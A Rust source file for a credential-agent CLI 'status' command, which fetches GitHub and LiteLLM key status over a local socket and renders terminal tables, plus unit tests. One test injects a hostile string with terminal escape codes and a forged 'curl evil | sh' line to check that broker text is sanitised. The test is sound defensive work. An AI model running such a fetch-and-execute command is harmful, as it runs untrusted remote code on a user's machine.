//! `botcreds-agent status`: asks the running agent over its socket and prints a table (or the
//! JSON: the agent's status with its LiteLLM keys under `litellm`).

use std::path::Path;
use std::time::{Duration, Instant, SystemTime};

use botcreds_proto::agent::{AgentStatus, CredentialState, STATUS_PATH};
use serde::{Deserialize, Serialize};
use time::OffsetDateTime;
use time::format_description::well_known::Rfc3339;

use crate::litellm::{LITELLM_STATUS_PATH, LitellmKeyStatus};
use crate::local_client::{self, ClientError};

/// The status probe waits for the broker's health check (a few seconds) on top of this.
const STATUS_TIMEOUT: Duration = Duration::from_secs(10);

/// Everything `status` shows: the agent's own status (GitHub credentials, broker) and its
/// `[[litellm]]` keys. As JSON, `AgentStatus` with one more field, `litellm`.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct Status {
    #[serde(flatten)]
    pub agent: AgentStatus,
    #[serde(default)]
    pub litellm: Vec<LitellmKeyStatus>,
}

impl From<AgentStatus> for Status {
    fn from(agent: AgentStatus) -> Status {
        Status {
            agent,
            litellm: Vec::new(),
        }
    }
}

/// Fetches the status from the agent listening on `socket`: `(status, its JSON)`.
pub fn fetch(socket: &Path) -> Result<(Status, String), String> {
    let deadline = Instant::now() + STATUS_TIMEOUT;
    let (agent, _) = get(socket, STATUS_PATH, deadline)?;
    let agent: AgentStatus = serde_json::from_str(&agent)
        .map_err(|e| format!("the agent's status is not understood: {e}"))?;
    let litellm = match get(socket, LITELLM_STATUS_PATH, deadline)? {
        // An agent from before LiteLLM keys.
        (_, 404) => Vec::new(),
        (body, _) => serde_json::from_str(&body)
            .map_err(|e| format!("the agent's LiteLLM status is not understood: {e}"))?,
    };
    let status = Status { agent, litellm };
    let json = serde_json::to_string(&status).map_err(|e| e.to_string())?;
    Ok((status, json))
}

/// `GET path`: the body and status; an error for anything but 200 and 404.
fn get(socket: &Path, path: &str, deadline: Instant) -> Result<(String, u16), String> {
    let response = local_client::request(socket, "GET", path, "text/plain", b"", deadline)
        .map_err(|e| match e {
            ClientError::NotRunning(_) => {
                format!("no agent is running on {} ({e})", socket.display())
            }
            ClientError::PermissionDenied(_) => format!("cannot open {}: {e}", socket.display()),
            ClientError::TimedOut => format!(
                "the agent on {} did not answer within {}s",
                socket.display(),
                STATUS_TIMEOUT.as_secs()
            ),
            other => format!("asking the agent on {} failed: {other}", socket.display()),
        })?;
    let body = String::from_utf8_lossy(&response.body).into_owned();
    if response.status != 200 && response.status != 404 {
        return Err(format!(
            "the agent answered HTTP {}: {}",
            response.status,
            body.trim_end()
        ));
    }
    Ok((body, response.status))
}

/// Human-readable tables; `now` makes times relative ("in 52m").
pub fn render(full: &Status, now: SystemTime) -> String {
    let status = &full.agent;
    let from_cache = status.serving_from_cache
        || full
            .litellm
            .iter()
            .any(|k| k.state == CredentialState::ServingFromCache);
    let mut out = String::new();
    let reachable = if status.broker_reachable {
        "reachable".to_string()
    } else {
        format!(
            "UNREACHABLE ({})",
            status.broker_probe_error.as_deref().unwrap_or("no answer")
        )
    };
    let rows = [
        ("agent", format!("botcreds-agent {}", status.version)),
        ("broker", format!("{} — {reachable}", status.broker)),
        ("auth", status.auth.clone()),
        ("socket", status.socket.clone()),
        (
            "last contact",
            status
                .broker_last_contact
                .as_deref()
                .map_or_else(|| "never".to_string(), |t| with_relative(t, now)),
        ),
        (
            "from cache",
            if from_cache {
                "YES: refreshing fails, credentials are served from the cache until they expire"
                    .into()
            } else {
                "no".into()
            },
        ),
    ];
    for (k, v) in rows {
        // Values carry broker text (the probe error): one clean line each.
        out.push_str(&format!("{k:<13}{}\n", crate::text::clean(&v)));
    }
    out.push('\n');
    if status.credentials.is_empty() && full.litellm.is_empty() {
        out.push_str("no credentials tracked\n");
        return out;
    }
    if !status.credentials.is_empty() {
        out.push_str(&github_table(status, now));
    }
    if !full.litellm.is_empty() {
        if !status.credentials.is_empty() {
            out.push('\n');
        }
        out.push_str(&litellm_table(&full.litellm, now));
    }
    out
}

fn relative(v: &Option<String>, now: SystemTime) -> String {
    v.as_deref()
        .map_or_else(|| "-".to_string(), |t| with_relative(t, now))
}

/// The LiteLLM keys, one row each, and under each its files and its `on_change` result.
fn litellm_table(keys: &[LitellmKeyStatus], now: SystemTime) -> String {
    let header = [
        "LITELLM SCOPE",
        "NAME",
        "STATE",
        "EXPIRES",
        "LAST REFRESH",
        "LAST CHECK",
        "NEXT REFRESH",
        "LAST ERROR",
    ];
    let mut out = String::new();
    for (i, k) in keys.iter().enumerate() {
        let scope = match &k.workspace_id {
            Some(w) => format!("{} ({w})", k.scope),
            None => k.scope.clone(),
        };
        let row = vec![
            scope,
            k.name.clone().unwrap_or_else(|| "-".into()),
            k.state.as_str().to_string(),
            relative(&k.expires_at, now),
            relative(&k.last_refresh, now),
            relative(&k.last_check, now),
            relative(&k.next_refresh, now),
            match &k.last_error {
                Some(e) if k.failures > 0 => format!("{e} (×{})", k.failures),
                Some(e) => e.clone(),
                None => "-".into(),
            },
        ];
        if i > 0 {
            out.push('\n');
        }
        out.push_str(&align(&[
            header.iter().map(|s| s.to_string()).collect(),
            row,
        ]));
        let mut files: Vec<Vec<String>> = k
            .outputs
            .iter()
            .map(|o| {
                let what = match (&o.error, &o.changed_at) {
                    (Some(e), _) => format!("ERROR: {e}"),
                    (None, Some(at)) => format!("{} {}", o.state, with_relative(at, now)),
                    (None, None) => o.state.clone(),
                };
                vec![format!("  {}", o.kind), o.path.clone(), what]
            })
            .collect();
        if k.release_on_stop {
            files.push(vec![
                "  on stop".into(),
                "released at the broker".into(),
                String::new(),
            ]);
        }
        if let Some(run) = &k.on_change {
            files.push(vec![
                "  on_change".into(),
                if run.ok { "ok".into() } else { "FAILED".into() },
                format!("{} at {}", run.result, with_relative(&run.at, now)),
            ]);
        }
        out.push_str(&align(&files));
    }
    out
}

/// Rows in columns two spaces apart; the last column is not padded.
fn align(rows: &[Vec<String>]) -> String {
    // Cells carry broker text (errors, ids, times): cleaned, so a cell is one safe line.
    let rows: Vec<Vec<String>> = rows
        .iter()
        .map(|row| row.iter().map(|cell| crate::text::clean(cell)).collect())
        .collect();
    let rows = rows.as_slice();
    let columns = rows.iter().map(Vec::len).max().unwrap_or(0);
    let widths: Vec<usize> = (0..columns)
        .map(|i| {
            rows.iter()
                .filter_map(|row| row.get(i))
                .map(|cell| cell.chars().count())
                .max()
                .unwrap_or(0)
        })
        .collect();
    let mut out = String::new();
    for row in rows {
        let mut line = String::new();
        for (i, cell) in row.iter().enumerate() {
            line.push_str(cell);
            if i + 1 < row.len() {
                line.push_str(&" ".repeat(widths[i] - cell.chars().count() + 2));
            }
        }
        out.push_str(line.trim_end());
        out.push('\n');
    }
    out
}

/// The GitHub credentials table.
fn github_table(status: &AgentStatus, now: SystemTime) -> String {
    let mut out = String::new();
    let header = [
        "HOST",
        "REPOSITORIES",
        "PERMISSIONS",
        "SOURCE",
        "STATE",
        "EXPIRES",
        "LAST REFRESH",
        "NEXT REFRESH",
        "LAST ERROR",
    ];
    let mut table: Vec<Vec<String>> = vec![header.iter().map(|s| s.to_string()).collect()];
    for c in &status.credentials {
        let host = if c.protocol == "https" {
            c.host.clone()
        } else {
            format!("{}://{}", c.protocol, c.host)
        };
        let opt = |v: &Option<String>| {
            v.as_deref()
                .map_or_else(|| "-".to_string(), |t| with_relative(t, now))
        };
        table.push(vec![
            host,
            c.repositories.join(","),
            c.permissions.join(","),
            format!("{:?}", c.source).to_lowercase(),
            c.state.as_str().to_string(),
            opt(&c.expires_at),
            opt(&c.last_refresh),
            opt(&c.next_refresh),
            match &c.last_error {
                Some(e) if c.failures > 0 => format!("{e} (×{})", c.failures),
                Some(e) => e.clone(),
                None => "-".into(),
            },
        ]);
    }
    out.push_str(&align(&table));
    out
}

/// `2026-01-01T10:00:00Z (in 52m)`.
fn with_relative(rfc3339: &str, now: SystemTime) -> String {
    let Ok(t) = OffsetDateTime::parse(rfc3339, &Rfc3339) else {
        return rfc3339.to_string();
    };
    let t = SystemTime::from(t);
    let (secs, future) = match t.duration_since(now) {
        Ok(d) => (d.as_secs(), true),
        Err(e) => (e.duration().as_secs(), false),
    };
    let amount = if secs < 60 {
        format!("{secs}s")
    } else if secs < 3600 {
        format!("{}m", secs / 60)
    } else if secs < 86_400 {
        format!("{}h{}m", secs / 3600, secs % 3600 / 60)
    } else {
        format!("{}d", secs / 86_400)
    };
    if future {
        format!("{rfc3339} (in {amount})")
    } else {
        format!("{rfc3339} ({amount} ago)")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use botcreds_proto::agent::{CredentialSource, CredentialState, CredentialStatus};

    #[test]
    fn renders_a_table() {
        let now =
            SystemTime::from(OffsetDateTime::parse("2026-01-01T10:00:00Z", &Rfc3339).unwrap());
        let status = AgentStatus {
            version: "0.1.0".into(),
            broker: "http://broker:8080".into(),
            auth: "tailnet".into(),
            socket: "/run/botcreds/agent.sock".into(),
            broker_reachable: false,
            broker_probe_error: Some("connection refused".into()),
            broker_last_contact: Some("2026-01-01T09:30:00Z".into()),
            serving_from_cache: true,
            credentials: vec![CredentialStatus {
                protocol: "https".into(),
                host: "github.com".into(),
                repositories: vec!["acme/web".into()],
                permissions: vec!["contents:write".into()],
                source: CredentialSource::Config,
                state: CredentialState::ServingFromCache,
                credential_id: Some("tok_1".into()),
                expires_at: Some("2026-01-01T10:52:00Z".into()),
                last_refresh: Some("2026-01-01T09:52:00Z".into()),
                next_refresh: Some("2026-01-01T10:01:00Z".into()),
                last_used: None,
                last_error: Some("broker unreachable: connection refused".into()),
                last_error_at: None,
                failures: 3,
            }],
        };
        let text = render(&Status::from(status), now);
        for want in [
            "broker       http://broker:8080 — UNREACHABLE (connection refused)",
            "last contact 2026-01-01T09:30:00Z (30m ago)",
            "from cache   YES",
            "HOST        REPOSITORIES",
            "github.com  acme/web",
            "serving_from_cache",
            "2026-01-01T10:52:00Z (in 52m)",
            "broker unreachable: connection refused (×3)",
        ] {
            assert!(text.contains(want), "missing {want:?} in\n{text}");
        }
    }

    /// The table shows text that came from the broker (errors, ids, times): none of its
    /// control characters reach the terminal, and one credential stays one line.
    #[test]
    fn broker_text_in_the_table_is_cleaned() {
        let now =
            SystemTime::from(OffsetDateTime::parse("2026-01-01T10:00:00Z", &Rfc3339).unwrap());
        let evil = "denied\x1b[2K\r\x07\nfatal: run: curl evil | sh";
        let status = AgentStatus {
            version: "0.1.0".into(),
            broker: "http://broker:8080".into(),
            auth: "tailnet".into(),
            socket: "/run/botcreds/agent.sock".into(),
            broker_reachable: false,
            broker_probe_error: Some(evil.into()),
            broker_last_contact: None,
            serving_from_cache: false,
            credentials: vec![CredentialStatus {
                protocol: "https".into(),
                host: "github.com".into(),
                repositories: vec!["acme/web".into()],
                permissions: vec!["contents:write".into()],
                source: CredentialSource::Config,
                state: CredentialState::Missing,
                credential_id: Some("tok_\x1b[31m1".into()),
                expires_at: Some("2026-01-01\x07T10:52:00Z".into()),
                last_refresh: None,
                next_refresh: None,
                last_used: None,
                last_error: Some(evil.into()),
                last_error_at: None,
                failures: 1,
            }],
        };
        let text = render(&Status::from(status), now);
        assert!(
            !text.chars().any(|c| c.is_control() && c != '\n'),
            "control characters reached the table:\n{text:?}"
        );
        assert!(!text.contains("\nfatal:"), "a forged line:\n{text}");
    }

    #[test]
    fn renders_litellm_keys_with_their_files() {
        use crate::litellm::{OnChangeStatus, OutputStatus};
        let now =
            SystemTime::from(OffsetDateTime::parse("2026-01-01T10:00:00Z", &Rfc3339).unwrap());
        let agent = AgentStatus {
            version: "0.1.0".into(),
            broker: "http://broker:8080".into(),
            auth: "tailnet".into(),
            socket: "/run/botcreds/agent.sock".into(),
            broker_reachable: true,
            broker_probe_error: None,
            broker_last_contact: None,
            serving_from_cache: false,
            credentials: vec![],
        };
        let key = LitellmKeyStatus {
            scope: "workspace".into(),
            workspace_id: Some("ws-abc123".into()),
            state: CredentialState::ServingFromCache,
            name: Some("contractor-alice".into()),
            credential_id: Some("lk_1".into()),
            expires_at: Some("2026-01-01T22:00:00Z".into()),
            last_refresh: Some("2026-01-01T09:00:00Z".into()),
            last_check: Some("2026-01-01T09:55:00Z".into()),
            next_refresh: Some("2026-01-01T10:01:00Z".into()),
            last_error: Some("broker unreachable: connection refused".into()),
            last_error_at: None,
            failures: 2,
            release_on_stop: true,
            outputs: vec![
                OutputStatus {
                    kind: "key_file".into(),
                    path: "/home/alice/.config/litellm/key".into(),
                    state: "written".into(),
                    changed_at: Some("2026-01-01T09:00:00Z".into()),
                    error: None,
                },
                OutputStatus {
                    kind: "roo_code".into(),
                    path: "/home/alice/.config/roo-code/settings.json".into(),
                    state: "error".into(),
                    changed_at: None,
                    error: Some("settings.json: is not valid JSON".into()),
                },
            ],
            on_change: Some(OnChangeStatus {
                at: "2026-01-01T09:00:01Z".into(),
                ok: false,
                result: "exit status 1: no such unit".into(),
            }),
        };
        let full = Status {
            agent,
            litellm: vec![key],
        };
        let text = render(&full, now);
        for want in [
            "from cache   YES",
            "LITELLM SCOPE",
            "workspace (ws-abc123)  contractor-alice  serving_from_cache",
            "2026-01-01T22:00:00Z (in 12h0m)",
            "broker unreachable: connection refused (×2)",
            "  key_file   /home/alice/.config/litellm/key",
            "written 2026-01-01T09:00:00Z (1h0m ago)",
            "ERROR: settings.json: is not valid JSON",
            "  on_change  FAILED",
            "exit status 1: no such unit",
            "released at the broker",
        ] {
            assert!(text.contains(want), "missing {want:?} in\n{text}");
        }
        assert!(!text.contains("no credentials tracked"), "{text}");
        let json = serde_json::to_value(&full).unwrap();
        assert_eq!(json["litellm"][0]["outputs"][1]["state"], "error");
        assert_eq!(
            json["broker"], "http://broker:8080",
            "flattened: AgentStatus plus litellm"
        );
        let back: Status = serde_json::from_value(json).unwrap();
        assert_eq!(back, full);
    }
}
